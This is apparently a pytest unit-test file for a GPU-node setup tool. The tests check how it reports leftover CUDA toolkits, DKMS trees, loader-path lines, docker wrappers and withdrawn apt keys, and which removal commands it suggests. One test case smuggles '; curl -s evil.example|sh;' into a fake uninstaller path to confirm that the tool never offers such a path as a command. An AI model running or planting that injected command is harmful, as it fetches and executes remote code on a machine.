"""Notes on leftovers of .run installers, old packages and old guides."""

from __future__ import annotations

from dataclasses import replace

import pytest

from gpunode.change import PackageChange, PackageState
from gpunode.facts.derive import derive
from gpunode.facts.evidence import Capture, GlobMatch, encode_matches
from gpunode.facts.model import Facts, Known, Unknown, value_or
from gpunode.facts.project import project_changes
from gpunode.outcome import Refusal
from gpunode.package_id import PackageId
from gpunode.steps.driver import CONFLICTS_STEP
from gpunode.steps.leftovers import find_leftovers
from tests.unit.steps.machines import machine, planned, recipe, with_driver

NVCC = "/usr/local/cuda-12.6/bin/nvcc"
UNINSTALLER = "/usr/local/cuda-12.6/bin/cuda-uninstaller"
SOURCE = "/usr/src/nvidia-535.54.03"
TREE = "/var/lib/dkms/nvidia/535.54.03"
LOADER = "/etc/ld.so.conf.d/cuda.conf"
COMMON_KEYRING = "/etc/apt/trusted.gpg"


def only_note(facts: Facts) -> str:
    (note,) = find_leftovers(facts)
    return note


def test_clean_nodes_have_no_leftovers() -> None:
    source = "/usr/src/nvidia-580.95.05"
    trees = frozenset({source, "/var/lib/dkms/nvidia/580.95.05", "/var/lib/dkms/nvidia/kernel-6.1.0-37-amd64-x86_64"})
    assert not [*find_leftovers(machine())]
    assert not [*find_leftovers(with_driver(leftovers=trees))]


@pytest.mark.parametrize(
    ("dkms", "there", "is_refused"),
    [
        ("3.2.2-1~deb13u1", {"/var/lib/dkms/nvidia-tesla-470/470.256.02"}, True),
        (
            "3.2.2-1~deb13u1",
            {"/var/lib/dkms/nvidia-tesla-470/470.256.02", "/usr/src/nvidia-tesla-470-470.256.02"},
            False,
        ),
        ("3.2.2-1~deb13u1", set(), False),
        ("3.0.10-8+deb12u1", {"/var/lib/dkms/nvidia-tesla-470/470.256.02"}, False),
    ],
)
def test_purge_that_dkms_would_fail_in_is_refused_before(dkms: str, there: set[str], is_refused: bool) -> None:
    packages = {"nvidia-tesla-470-kernel-dkms": "470.256.02-1", "dkms": dkms}
    found = CONFLICTS_STEP.plan(recipe(), machine(packages=packages, leftovers=frozenset(there)))
    assert isinstance(found, Refusal) == is_refused
    if isinstance(found, Refusal):
        assert "sudo apt-get install --reinstall nvidia-tesla-470-kernel-dkms=470.256.02-1" in found.hint
        assert "sudo rm -r /var/lib/dkms/nvidia-tesla-470/470.256.02" in found.hint


def test_unpackaged_toolkit_is_noted_with_its_uninstaller() -> None:
    paths = frozenset({NVCC, UNINSTALLER, "/usr/local/cuda-11.8/bin/cuda-uninstaller"})
    note = only_note(machine(leftovers=paths))
    assert "CUDA toolkit 12.6" in note
    assert f"`sudo {UNINSTALLER}`" in note


@pytest.mark.parametrize("others", [(), ("/usr/local/cuda-12.6/bin/uninstall_cuda_12.6;curl -s evil.example|sh;",)])
def test_toolkit_without_uninstaller_is_removed_by_hand(others: tuple[str, ...]) -> None:
    """A capture may call any program an uninstaller."""
    leftovers = frozenset({NVCC, *others})
    assert only_note(machine(leftovers=leftovers)).endswith(
        "it has no uninstaller: remove /usr/local/cuda-12.6 by hand"
    )
    loader = {LOADER: b"# CUDA\n/usr/local/cuda-12.6/targets/x86_64-linux/lib\n/usr/local/cuda-12.60/lib\n"}
    note = only_note(machine(leftovers=leftovers, files=loader))
    assert note.endswith(f"remove /usr/local/cuda-12.6 and line 2 of {LOADER} by hand")


@pytest.mark.parametrize("owner", ["cuda-nvcc-12-6", "cuda-compiler-12-6"])
def test_packaged_toolkit_is_no_leftover(owner: str) -> None:
    paths = frozenset({NVCC})
    assert not [*find_leftovers(machine(leftovers=paths, packages={owner: "12.6.3-1"}))]
    residue = {owner: PackageState("12.6.3-1", config_files_only=True)}
    assert only_note(machine(leftovers=paths, packages=residue))


@pytest.mark.parametrize(
    ("paths", "command"),
    [
        ((SOURCE,), f"`sudo rm -r {SOURCE}`"),
        # DKMS 3.0 answers `dkms remove` with 0 and does nothing, 3.2 refuses it.
        ((TREE,), f"its source is gone, so DKMS can neither build nor remove it; `sudo rm -r {TREE}`"),
        ((SOURCE, TREE), f"`sudo dkms remove -m nvidia -v 535.54.03 --all && sudo rm -r {SOURCE}`"),
        (("/usr/src/nvidia-current-535.247.01",), "`sudo rm -r /usr/src/nvidia-current-535.247.01`"),
    ],
)
def test_dkms_tree_of_no_package_is_noted(paths: tuple[str, ...], command: str) -> None:
    note = only_note(with_driver(leftovers=frozenset(paths)))
    assert command in note
    assert all(path in note for path in paths)


def test_other_sources_with_nvidia_in_their_name_are_no_driver() -> None:
    paths = frozenset({"/usr/src/nvidia-fs-2.20.5", "/var/lib/dkms/nvidia-fs/2.20.5"})
    assert not [*find_leftovers(machine(leftovers=paths))]


def test_stub_folder_in_the_loader_path_is_noted_with_its_line() -> None:
    content = b"# CUDA\n/usr/local/cuda/lib64\n/usr/local/cuda/lib64/stubs/ # for the build\n#/opt/stubs\n"
    note = only_note(machine(files={LOADER: content}))
    assert f"line 3 of {LOADER}" in note
    assert "/usr/local/cuda/lib64/stubs:" in note
    assert not [*find_leftovers(machine(files={f"{LOADER}.bak": content}))]


@pytest.mark.parametrize(
    ("folder", "breaks"),
    [
        ("/usr/local/cuda-12.4/compat", "error 803"),
        ("/usr/local/cuda/compat/", "error 803"),
        ("/usr/lib/nvidia-384", "mismatch"),
        ("/usr/local/nvidia/lib64", "mismatch"),
        ("/usr/local/cuda/lib64", ""),
        ("/usr/lib/nvidia-cuda-toolkit", ""),
    ],
)
@pytest.mark.parametrize("path", [LOADER, "/etc/ld.so.conf"])
def test_loader_folder_before_the_drivers_is_noted(folder: str, breaks: str, path: str) -> None:
    notes = [*find_leftovers(machine(files={path: f"{folder}\n".encode()}))]
    assert [breaks in note and f"line 1 of {path}" in note for note in notes] == ([True] if breaks else [])
    own = "/etc/ld.so.conf.d/aa-linux-gnu.conf"
    assert path != LOADER or not [*find_leftovers(machine(files={own: b"/usr/lib\n", path: f"{folder}\n".encode()}))]


def test_docker_wrapper_is_noted_with_the_file_that_a_purge_deletes() -> None:
    assert "is retired" in only_note(machine(packages={"nvidia-docker2": "2.13.0-1"}))
    residue = {"nvidia-docker2": PackageState("2.13.0-1", config_files_only=True)}
    assert "has left /etc/docker/daemon.json behind" in only_note(machine(packages=residue))


def test_withdrawn_key_is_noted(monkeypatch: pytest.MonkeyPatch) -> None:
    facts = machine(files={COMMON_KEYRING: b"keys"})
    withdrawn = ("AE09FE4BBD223A84B2CCFCE3F60F4B3D7FA2AF80",)
    monkeypatch.setattr("gpunode.catalog.openpgp.list_key_fingerprints", lambda data: withdrawn)
    assert "--keyring /etc/apt/trusted.gpg --delete-keys 7FA2AF80" in only_note(facts)
    today = ("EB693B3035CD5710E231E123A4B469963BF863CC",)
    monkeypatch.setattr("gpunode.catalog.openpgp.list_key_fingerprints", lambda data: today)
    assert not [*find_leftovers(facts)]


def test_unreadable_keyring_is_left_to_apt() -> None:
    assert not [*find_leftovers(machine(files={COMMON_KEYRING: b"no keys"}))]


def test_toolkits_of_no_package_alone_are_known_after_a_transaction() -> None:
    facts = machine(leftovers=frozenset({NVCC, SOURCE}))
    assert planned(CONFLICTS_STEP.plan(recipe(), facts)).notes == tuple(find_leftovers(facts))
    brought = PackageChange(PackageId("libcuda1"), None, PackageState("580.95.05-1"))
    after = project_changes(facts, [brought])
    assert "CUDA toolkit 12.6" in only_note(after)
    purged = PackageChange(PackageId("cuda-nvcc-12-6"), PackageState("12.6.85-1"), None)
    assert isinstance(project_changes(facts, [purged]).leftovers, Unknown)


@pytest.mark.parametrize(
    ("path", "is_there"),
    [("/usr/bin/nvidia-installer", True), ("/usr/bin/nvidia-uninstall", True), ("/usr/bin/nvidia-reinstall", False)],
)
def test_run_installer_is_known_without_its_uninstall_link(path: str, is_there: bool) -> None:
    found = Capture("glob", "ok", encode_matches(iter([GlobMatch(path)])))
    assert derive({"run-installer": found}).run_installer == Known(is_there, "run-installer")


def test_leftovers_are_read_from_the_places_of_installers() -> None:
    def listing(*paths: str) -> Capture:
        return Capture("glob", "ok", encode_matches(iter([GlobMatch(path) for path in paths])))

    evidence = {
        "cuda-compilers": listing(NVCC),
        "cuda-uninstallers": listing(UNINSTALLER),
        "dkms-tree": listing(TREE, "/var/lib/dkms/zfs/2.1.11"),
        "kernel-sources": listing(SOURCE, "/usr/src/linux-headers-6.1.0-37-amd64"),
    }
    assert value_or(derive(evidence).leftovers, frozenset[str]()) == {NVCC, UNINSTALLER, TREE, SOURCE}
    unread = replace(evidence["dkms-tree"], outcome="denied")
    assert isinstance(derive({**evidence, "dkms-tree": unread}).leftovers, Unknown)
